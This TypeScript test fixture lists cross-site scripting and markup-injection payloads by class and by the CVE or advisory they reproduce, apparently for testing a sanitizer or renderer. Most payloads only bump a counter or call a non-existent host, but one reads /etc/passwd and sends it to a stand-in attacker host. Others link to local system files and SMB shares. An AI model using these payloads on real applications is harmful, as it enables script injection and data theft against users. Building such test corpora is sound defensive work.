// Text that runs, or asks a server, wherever it reaches a page as markup or a link: ours, by class, and one for each advisory that binds us.
// What runs counts itself in `window.__ran`; what asks, asks a host that does not exist.

const RUN = 'window.__ran=(window.__ran||0)+1';
const HOST = 'https://attacker.invalid';

export type Payload = { readonly class: string; readonly text: string };

const of = (kind: string, texts: readonly string[]): readonly Payload[] => texts.map((text) => ({ class: kind, text }));

const scripts = of('script', [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script/x>${RUN}</script>`, `<script src=${HOST}/x.js></script>`, `<script src=data:text/javascript,${RUN}></script>`, `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `"><script>${RUN}</script>`, `'-${RUN}-'`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `<script>${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:text/javascript,${RUN}"/></svg>`, `<math><script>${RUN}</script></math>`,
]);

const elements = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'select autofocus', 'textarea autofocus', 'marquee', 'iframe', 'object data=x', 'embed src=x', 'style', 'link rel=stylesheet href=x', 'a href=# tabindex=1 autofocus', 'dialog open', 'source src=x', 'track src=x', 'form'];
const handlers = of('handler', elements.flatMap((element, index) => {
  const events = [['onerror', 'onload'], ['onload', 'onfocus'], ['onerror', 'ontoggle'], ['onbegin', 'onstart']][index % 4] ?? [];
  return [`<${element} ${events[0]}="${RUN}">`, `<${element} ${events[1]}=${RUN.replaceAll(' ', '')}>`];
}));

const links = of('link', [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `&#106;avascript:${RUN}`, `javascript&colon;${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,<svg onload="${RUN}">`, `//attacker.invalid/x`,
  'file:///etc/passwd', '\\\\attacker.invalid\\share', 'smb://attacker.invalid/x', 'ms-msdt:/id', 'search-ms:query=x', 'vscode://x', 'blob:null', 'view-source:https://attacker.invalid', 'app://ui/index.html?x', `${HOST}@127.0.0.1/`, `feed:javascript:${RUN}`,
].flatMap((address) => [`<a href="${address}">a link that runs</a>`, `[a link that runs](${address})`]));

const resources = of('resource', [
  `<img src="${HOST}/beacon.png">`, `<img srcset="${HOST}/2x.png 2x">`, `<picture><source srcset="${HOST}/s.png"><img></picture>`, `![beacon](${HOST}/md.png)`, `![beacon][x]\n\n[x]: ${HOST}/ref.png`, `<link rel=stylesheet href=${HOST}/x.css>`, `<link rel=prefetch href=${HOST}/p>`, `<link rel=preconnect href=${HOST}>`,
  `<style>@import "${HOST}/i.css";</style>`, `<p style="background:url(${HOST}/bg.png)">x</p>`, `<style>*{background:url(${HOST}/all.png)}</style>`, `<video poster=${HOST}/v.png>`, `<audio src=${HOST}/a.mp3 autoplay>`, `<iframe src=${HOST}/f>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data=${HOST}/o>`, `<embed src=${HOST}/e>`,
  `<meta http-equiv=refresh content="0;url=${HOST}/r">`, `<base href="${HOST}/">`, `<form action=${HOST}/s><button autofocus>go</button></form>`, `<svg><image href="${HOST}/i.svg"/></svg>`, `<svg><use href="${HOST}/u.svg#x"/></svg>`, `<input type=image src=${HOST}/in.png>`, `<table background=${HOST}/t.png>`, `<body background=${HOST}/b.png>`,
]);

const confusions = of('confusion', [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<template><img src=x onerror=${RUN}></template>`, `<xmp><img src=x onerror=${RUN}></xmp>`, `<plaintext><img src=x onerror=${RUN}>`, `<title><img title="</title><img src=x onerror=${RUN}>">`, `<select><template><img src=x onerror=${RUN}></template></select>`,
  `&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `\u003cimg src=x onerror=${RUN}\u003e`, `%3Cimg%20src=x%20onerror=${RUN}%3E`, `＜img src=x onerror=${RUN}＞`, `<\u0000img src=x onerror=${RUN}>`, `<img\u000bsrc=x\u000conerror=${RUN}>`, `<img src=x onerror=\`${RUN}\`>`, `<img src="x\` onerror=${RUN} \`">`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `[[${RUN}]]`, `__proto__`, `constructor`, `<x is="x" id=__proto__>`,
]);

/** Each by what it was found in. */
const advisories = of('advisory', [
  `[open](file:///c:/windows/system32/calc.exe)`, `<a href="x" data-from-md="1" data-resource-id="x">Mermaid (CVE-2024-49362)</a>`, `<a<img src=x onerror=${RUN}>CVE-2024-40643`, `<!--><img src=x onerror=${RUN}>-->CVE-2025-24028`, `<img src=x onerror=${RUN}> a title (CVE-2025-25187)`,
  `<svg onload=${RUN}>pasted (CVE-2023-38506)`, `<noscript><embed src="javascript:${RUN}">CVE-2021-33295`, `<img name=querySelector><form name=body><input name=attributes>CVE-2024-55630`, `<iframe src="app://local/etc/passwd">CVE-2023-2110`, `[x](obsidian://hook-get-address?x=${HOST})`,
  `<iframe src="javascript:${RUN}">Logseq #6291`, `<details open ontoggle=${RUN}>GHSA-92h5-2358-7xjv`, `[:script "${RUN}"]`, `<embed src="app://ui/index.html?x=<script>${RUN}</script>">CVE-2023-2317`, `<img src=x onerror="fetch('file:///etc/passwd').then(r=>r.text()).then(t=>fetch('${HOST}/'+t))">CVE-2022-40276`,
  `> <img src=x onerror=${RUN}> quoted (CVE-2018-11101)`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>CVE-2021-29996`, `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${RUN}>"]\n\`\`\``, `$\\href{javascript:${RUN}}{x}$`,
]);

export const payloads: readonly Payload[] = [...scripts, ...handlers, ...links, ...resources, ...confusions, ...advisories];
